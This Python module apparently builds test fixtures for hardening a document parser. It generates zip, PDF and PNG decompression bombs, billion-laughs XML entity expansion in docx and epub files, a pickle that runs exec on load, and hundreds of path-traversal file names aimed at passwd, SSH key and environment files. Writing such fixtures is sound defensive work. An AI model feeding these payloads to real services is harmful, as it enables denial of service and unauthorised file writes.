"""Files that attack whoever reads them, built from nothing; each is small until it is unpacked."""

import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterable

import openpyxl
import pptx

MIB = 1 << 20
LAUGHS = (
    '<!DOCTYPE z [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)


def zipped(members: Iterable[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def flat_zip(mib: int = 1200) -> bytes:
    """One member of zeros."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("a.txt", "w", force_zip64=True) as part,
    ):
        for _ in range(mib):
            part.write(b" " * MIB)
    return out.getvalue()


def lying_zip() -> bytes:
    """A member that unpacks to more than its directory says."""
    data = bytearray(zipped([("a.txt", b"word " * (4 * MIB))]))
    true = struct.pack("<I", 20 * MIB)
    return bytes(data.replace(true, struct.pack("<I", 1000)))


def overlapping_zip(count: int = 500) -> bytes:
    """Many names in the directory for one and the same member."""
    data = bytearray(zipped([("a.txt", b"word " * MIB)]))
    end = data.rindex(b"PK\x05\x06")
    start = data.index(b"PK\x01\x02")
    entry = bytes(data[start:end])
    names = b"".join(entry.replace(b"a.txt", b"%05d" % number) for number in range(count))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(names), start, 0)
    return bytes(data[:start]) + names + tail


def nested_zip(depth: int = 8, width: int = 4) -> bytes:
    data = b"word " * 1000
    name = "a.txt"
    for _ in range(depth):
        data = zipped([(f"{number}-{name}", data) for number in range(width)])
        name = "a.zip"
    return data


def endless_zip(depth: int = 1000) -> bytes:
    """An archive in an archive in an archive …"""
    data = zipped([("a.txt", b"words")])
    for _ in range(depth):
        data = zipped([("a.zip", data)])
    return data


def docx_with(document: bytes, extra: Iterable[tuple[str, bytes]] = ()) -> bytes:
    return zipped(
        [
            (
                "[Content_Types].xml",
                b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'content-types"><Default Extension="xml" ContentType="application/xml"/><Default '
                b'Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
                b'+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxml'
                b'formats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            ),
            (
                "_rels/.rels",
                b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package'
                b'/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
                b"</Relationships>",
            ),
            ("word/document.xml", document),
            *extra,
        ]
    )


def word(text: str, doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document xmlns:w="http://schemas.'
        'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        f"{text}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def xlsx(rows: Iterable[Iterable[object]] = (("a", "b"), (1, 2))) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def slides(*titles: str) -> bytes:
    deck = pptx.Presentation()
    for title in titles:
        deck.slides.add_slide(deck.slide_layouts[0]).shapes.title.text = title
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def with_part(package: bytes, name: str, data: bytes) -> bytes:
    """The package with one part put in or replaced."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        parts = [(each, archive.read(each)) for each in archive.namelist() if each != name]
    return zipped([*parts, (name, data)])


def changed_part(package: bytes, name: str, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return with_part(package, name, archive.read(name).replace(old, new, 1))


def epub(chapter: str, doctype: str = "", package_doctype: str = "") -> bytes:
    return zipped(
        [
            ("mimetype", b"application/epub+zip"),
            (
                "META-INF/container.xml",
                b'<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
                b'<rootfile full-path="o/p.opf"/></rootfiles></container>',
            ),
            (
                "o/p.opf",
                f'{package_doctype}<package xmlns="http://www.idpf.org/2007/opf" xmlns:dc="http://'
                'purl.org/dc/elements/1.1/"><metadata><dc:title>Book</dc:title></metadata><manifest>'
                '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine>'
                '<itemref idref="c"/></spine></package>'.encode(),
            ),
            ("o/c.xhtml", f"{doctype}<html><body><p>{chapter}</p></body></html>".encode()),
        ]
    )


def pdf(content: bytes, *, pages: int = 1, stream: bytes = b"", extra: bytes = b"") -> bytes:
    """A PDF whose pages share one content stream; `stream` are entries of its dictionary."""
    kids = b" ".join(b"%d 0 R" % (10 + number) for number in range(pages))
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[" + kids + b"]/Count %d>>" % pages,
        3: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica" + extra + b">>",
        4: b"<<" + stream + b"/Length %d>>stream\n" % len(content) + content + b"\nendstream",
    }
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        b"/Resources<</Font<</F 3 0 R>>>>>>"
    )
    objects |= {10 + number: page for number in range(pages)}
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj" % number + body + b"endobj\n"
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n1 4\n"
    out += b"".join(b"%010d 00000 n \n" % places[number] for number in range(1, 5))
    out += b"10 %d\n" % pages
    out += b"".join(b"%010d 00000 n \n" % places[number] for number in range(10, 10 + pages))
    out += b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (10 + pages, start)
    return bytes(out)


def pdf_text(text: str) -> bytes:
    return b"BT /F 12 Tf 72 700 Td (" + text.encode("latin-1") + b") Tj ET"


def flate_pdf(rounds: int = 3, mib: int = 700) -> bytes:
    """A content stream packed several times over."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * MIB) for _ in range(mib)) + packer.flush()
    for _ in range(rounds - 1):
        data = zlib.compress(data, 9)
    return pdf(data, stream=b"/Filter[" + b"/FlateDecode " * rounds + b"]")


def lzw_pdf(codes: int = 400_000) -> bytes:
    """LZW whose every code is the longest string so far: a thousand times its size."""
    out = bytearray()
    pending = size = count = 0
    for code in _lzw_codes(codes):
        width = 9 if count < 255 else 10 if count < 767 else 11 if count < 1791 else 12
        pending, size = pending << width | code, size + width
        while size >= 8:
            size -= 8
            out.append(pending >> size & 0xFF)
        pending &= (1 << size) - 1
        count = 0 if code == 256 else count + 1
    out.append(pending << (8 - size) & 0xFF)
    return pdf(bytes(out), stream=b"/Filter/LZWDecode")


def _lzw_codes(count: int) -> Iterable[int]:
    done = 0
    while done < count:
        yield 256
        yield 32
        yield from range(258, 4094)
        done += 3838
    yield 257


def many_operators_pdf(mib: int = 60) -> bytes:
    line = b"BT /F 12 Tf 72 700 Td (words) Tj ET q Q\n"
    packer = zlib.compressobj(9)
    block = line * (MIB // len(line))
    data = b"".join(packer.compress(block) for _ in range(mib)) + packer.flush()
    return pdf(data, stream=b"/Filter/FlateDecode")


class _Payload:
    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
        return (exec, (f"open({self._path!r}, 'w').close()",))


def payload(path: str, protocol: int = 4) -> bytes:
    """A pickle that makes the file `path` when it is loaded."""
    return pickle.dumps(_Payload(path), protocol)


def png(width: int, height: int) -> bytes:
    """A picture of one colour, however many pixels it claims."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 1000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def traversal_names() -> list[str]:
    """More than 900 names that lead out of a folder, in the spellings attackers use."""
    ups = ["../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f", "./../"]
    ups += ["x/../../", "..//", "....//../", "．．/", "../\\", "..／", "%2e./", "..;/../"]
    targets = ["etc/passwd", "canary.txt", "root/.ssh/authorized_keys", "windows\\win.ini"]
    targets += ["app/core/x.py", "tmp/x", "var/www/x.php", "proc/self/environ", ".bashrc"]
    names = [up * depth + target for up in ups for depth in range(1, 8) for target in targets]
    return [*names, "/etc/passwd", "C:\\x", "c:/x", "\\\\host\\share\\x", "~/x", "//host/x"]
